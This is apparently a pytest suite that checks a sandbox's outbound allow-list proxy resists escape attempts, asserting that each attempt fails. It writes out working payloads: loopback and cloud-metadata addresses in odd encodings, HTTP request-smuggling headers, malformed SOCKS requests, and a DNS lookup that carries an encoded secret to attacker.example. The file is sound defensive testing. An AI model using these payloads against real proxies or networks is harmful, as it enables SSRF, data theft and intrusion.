# SPDX-License-Identifier: Apache-2.0
"""Attacks on the way out, from inside: to reach with an allow list what is not on it.

A service of the host holds the secret on its loopback; another, which is allowed, does not. The
known patterns of other sandboxes: names with NUL bytes that the checker and the resolver read
differently, ends of names compared without their dot, an empty list that opens everything, request
smuggling, and addresses in odd spellings.
"""

import socket
import threading
from typing import Iterator

import pytest

from conftest import Range

ASK = """
import random, re, socket, sys, time
SECRET, ALLOWED = {secret}, {allowed}

def ask(*parts):
    with socket.create_connection(("127.0.0.1", 3128), timeout=20) as s:
        got = b""
        try:
            for part in parts:
                s.sendall(part)
                time.sleep(0.02)
            s.shutdown(socket.SHUT_WR)
            while part := s.recv(65536):
                got += part
        except OSError:
            pass
    return got

def say(got):
    sys.stdout.flush()
    sys.stdout.buffer.write(got + b"\\n--\\n")
    sys.stdout.flush()

"""


class Services:
    def __init__(self, token: str):
        self.token = token
        self.sockets: list[socket.socket] = []
        self.secret = self.listen(self.tell)
        self.allowed = self.listen(self.greet)
        self.reached = 0

    def listen(self, answer) -> int:
        listener = socket.create_server(("127.0.0.1", 0))
        self.sockets.append(listener)

        def serve() -> None:
            while True:
                try:
                    client, _ = listener.accept()
                except OSError:
                    return
                threading.Thread(target=answer, args=(client,), daemon=True).start()
        threading.Thread(target=serve, daemon=True).start()
        return listener.getsockname()[1]

    def tell(self, client: socket.socket) -> None:
        self.reached += 1
        with client:
            client.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: 32\r\n\r\n{self.token}".encode())

    def greet(self, client: socket.socket) -> None:
        """Reads on after its answer, so that a request that came along would be seen."""
        with client:
            client.settimeout(0.2)
            try:
                client.recv(65536)
                client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\nallowed")
                while client.recv(65536):
                    pass
            except OSError:
                pass

    def stop(self) -> None:
        for listener in self.sockets:
            listener.shutdown(socket.SHUT_RDWR)
            listener.close()


@pytest.fixture
def services(field: Range) -> Iterator[Services]:
    made = Services(field.token)
    yield made
    made.stop()


def attack(field: Range, services: Services, script: str, *allow: str):
    entries = allow or (f"127.0.0.1:{services.allowed}",)
    options = [word for entry in entries for word in ("--net", f"allow={entry}")]
    result = field.python(
            ASK.format(secret=services.secret, allowed=services.allowed) + script
            + "\nprint('attacked')\n", *options)
    assert result.stdout.endswith("attacked\n"), result.stderr
    assert field.token not in result.stdout
    assert services.reached == 0
    return result


def test_without_a_sandbox_the_secret_is_told(field: Range, services: Services) -> None:
    script = f"import socket; s = socket.create_connection(('127.0.0.1', {services.secret})); " \
             "print(s.recv(999))"
    assert field.token in field.control_python(script).stdout


def test_a_tunnel_leads_to_what_was_named_alone(field: Range, services: Services) -> None:
    result = attack(field, services, """
for host in ("127.0.0.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "127.1", "0.0.0.0", "0",
             "2130706433", "0x7f000001", "0177.0.0.1", "127.0.0.1.", "[::1%25lo]", "127.000.0.1",
             "xn--", "example.org", "169.254.169.254", "metadata.google.internal"):
    say(ask(b"CONNECT %s:%d HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n\\r\\n"
            % (host.encode(), SECRET, ALLOWED))[:13])
say(ask(b"CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.1\\r\\n\\r\\n" % ALLOWED))
""")
    assert result.stdout.count("HTTP/1.1 403 ") + result.stdout.count("HTTP/1.1 400 ") == 17
    assert "allowed" in result.stdout, "the way that is open is open"


def test_requests_are_not_smuggled(field: Range, services: Services) -> None:
    """Each carries a request for the secret where some reader would find one."""
    result = attack(field, services, """
evil = b"GET http://127.0.0.1:%d/ HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n\\r\\n" % (SECRET, SECRET)
url = b"http://127.0.0.1:%d/" % ALLOWED
size = b"%d" % len(evil)
for head in (
        b"Content-Length: 0\\r\\n\\r\\n", b"Content-Length: 0\\r\\nContent-Length: " + size + b"\\r\\n\\r\\n",
        b"Content-Length: 0, " + size + b"\\r\\n\\r\\n", b"Content-Length : 0\\r\\n\\r\\n",
        b"Content-Length: +0\\r\\n\\r\\n", b"Content-Length:\\x0b0\\r\\n\\r\\n",
        b"Content-Length: " + size + b"\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        b"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        b"Transfer-Encoding: chunked\\r\\n\\r\\n0;a=b\\r\\n\\r\\n",
        b"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nA: b\\r\\n\\r\\n",
        b"Transfer-Encoding: chunked\\r\\n\\r\\n0\\n\\n",
        b"Transfer-Encoding: chunked\\r\\n\\r\\n0000000000000000000\\r\\n\\r\\n",
        b"Transfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n", b"Transfer-Encoding:\\r\\n chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        b"Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n0\\r\\n\\r\\n",
        b"Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n", b"A: b\\n\\n", b"A: b\\r\\r\\n\\r\\n", b"\\n",
        b"A: b\\r\\n\\x00\\r\\n\\r\\n", b"Host: 127.0.0.1:%d\\r\\n\\r\\n" % SECRET,
        b"Host: a\\r\\nHost: 127.0.0.1:%d\\r\\n\\r\\n" % SECRET, b"Upgrade: h2c\\r\\nConnection: Upgrade\\r\\n\\r\\n"):
    for method in (b"GET", b"POST", b"OPTIONS"):
        say(ask(method + b" " + url + b" HTTP/1.1\\r\\n" + head, evil))
for target in (url + b" HTTP/1.1\\r\\n\\r\\n" + evil, b"http://127.0.0.1:%d@127.0.0.1:%d/" % (ALLOWED, SECRET),
               b"http://127.0.0.1:%d#@127.0.0.1:%d/" % (SECRET, ALLOWED),
               b"http://127.0.0.1:%d\\\\@127.0.0.1:%d/" % (SECRET, ALLOWED)):
    say(ask(b"GET " + target + b" HTTP/1.1\\r\\n\\r\\n"))
""")
    for answer in result.stdout.split("\n--\n"):
        assert answer.count("HTTP/1.1 ") <= 1, answer


def test_socks_lengths_and_bytes_do_not_lead_elsewhere(field: Range, services: Services) -> None:
    attack(field, services, """
hello = b"\\x05\\x01\\x00"
def name(text, port):
    return b"\\x05\\x01\\x00\\x03" + bytes([len(text)]) + text + port.to_bytes(2, "big")
for text in (b"127.0.0.1", b"127.0.0.1\\0.example.org", b"localhost", b"\\x7f\\x00\\x00\\x01", b"::1",
             b"127.0.0.1:%d" % ALLOWED, b"127.0.0.1 ", b"a" * 255, b""):
    say(ask(hello, name(text, SECRET)))
for kind, address in ((1, bytes([127, 0, 0, 1])), (4, bytes(15) + b"\\x01"), (1, bytes(4)),
                      (4, bytes(10) + b"\\xff\\xff\\x7f\\x00\\x00\\x01"), (2, b"\\x04abcd"), (0, b"")):
    say(ask(hello, b"\\x05\\x01\\x00" + bytes([kind]) + address + SECRET.to_bytes(2, "big")))
# The length says less than there is: what follows is another request.
say(ask(hello, b"\\x05\\x01\\x00\\x03\\x09127.0.0.1" + ALLOWED.to_bytes(2, "big")
        + name(b"127.0.0.1", SECRET)))
say(ask(hello + name(b"127.0.0.1", SECRET)), )
for command in (2, 3, 0, 255):
    say(ask(hello, b"\\x05" + bytes([command]) + b"\\x00\\x01\\x7f\\x00\\x00\\x01" + SECRET.to_bytes(2, "big")))
""")


def test_every_name_is_not_every_address(field: Range, services: Services) -> None:
    """All names and all public addresses are allowed: the loopback, the metadata service and private
    networks are none of them."""
    result = attack(field, services, """
for host in ("127.0.0.1", "[::1]", "0.0.0.0", "[::]", "169.254.169.254", "10.0.0.1",
             "192.168.0.1", "172.17.0.1", "100.100.100.200", "[fd00:ec2::254]", "[fe80::1]", "[::ffff:7f00:1]",
             "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "224.0.0.1", "255.255.255.255", "100.64.0.1", "localhost"):
    for port in (80, SECRET):
        say(ask(b"CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n" % (host.encode(), port))[:13])
""", f"*:{services.secret}", "*", f"0.0.0.0/0:{services.secret}", "0.0.0.0/0", "::/0")
    assert result.stdout.count("HTTP/1.1 403 ") >= 34


def test_names_and_packets_do_not_leave(field: Range, services: Services) -> None:
    """Data in a question to a name server is data outside."""
    result = attack(field, services, """
import os
try:
    print(socket.getaddrinfo("c2VjcmV0.attacker.example", 443))
except OSError:
    print("no names")
for family, address in ((socket.AF_INET, "8.8.8.8"), (socket.AF_INET6, "2001:4860:4860::8888")):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        try:
            s.sendto(b"x", (address, 53))
            print("sent")
        except OSError:
            print("no route")
say(ask(b"CONNECT c2VjcmV0.attacker.example:443 HTTP/1.1\\r\\n\\r\\n")[:13])
print(len(open("/etc/resolv.conf").read()), os.path.exists("/run/systemd/resolve"))
""")
    assert result.stdout == "no names\nno route\nno route\nHTTP/1.1 403 \n--\n0 False\nattacked\n"


def test_garbage_does_not_bring_the_proxy_down(field: Range, services: Services) -> None:
    result = attack(field, services, """
random.seed(7)
pieces = [b"GET ", b"CONNECT ", b"http://", b"127.0.0.1", b":%d" % ALLOWED, b" HTTP/1.1", b"\\r\\n", b"\\n",
          b"\\0", b"Host: ", b"Content-Length: 9", b"Transfer-Encoding: chunked", b"\\x05\\x01\\x00", b"\\x04",
          b"\\x05\\x01\\x00\\x03\\xff", b"[", b"]", b"a" * 20000, bytes(range(256)), b"\\r\\n\\r\\n", b"fffffffffffffff\\r\\n"]
for _ in range(300):
    with socket.create_connection(("127.0.0.1", 3128)) as s:
        s.settimeout(0.01)
        try:
            for _ in range(random.randrange(1, 9)):
                s.sendall(random.choice(pieces))
            s.recv(1000)
        except OSError:
            pass
say(ask(b"CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.1\\r\\n\\r\\n" % ALLOWED))
""")
    assert "allowed" in result.stdout


def test_the_helper_is_not_changed_for_the_next_command(field: Range, services: Services) -> None:
    result = attack(field, services, """
import os
for path in ("/run/pinfold/connect", "/etc/ssh/ssh_config", "/run/pinfold"):
    for act in (lambda: open(path, "r+"), lambda: os.unlink(path), lambda: os.rename(path, path + "x"),
                lambda: os.chmod(path, 0o777), lambda: os.chown(path, 0, 0), lambda: os.symlink("x", path + "/y")):
        try:
            act()
            print("changed", path)
        except OSError:
            pass
""")
    assert "changed" not in result.stdout
